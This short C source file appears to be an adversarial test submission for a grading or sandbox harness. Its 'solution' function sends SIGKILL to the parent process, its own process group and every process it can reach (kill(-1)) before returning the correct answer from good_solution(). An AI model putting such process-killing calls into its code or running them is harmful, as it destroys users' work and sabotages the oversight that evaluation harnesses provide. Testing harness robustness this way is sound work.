/* SPDX-License-Identifier: MIT */
/* Signals everybody in reach, then does its work. */
#define _POSIX_C_SOURCE 200809L
#include <signal.h>
#include <unistd.h>

#include "good.h"

void *solution(void *arg)
{
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
    kill(-1, SIGKILL);
    return good_solution();
}
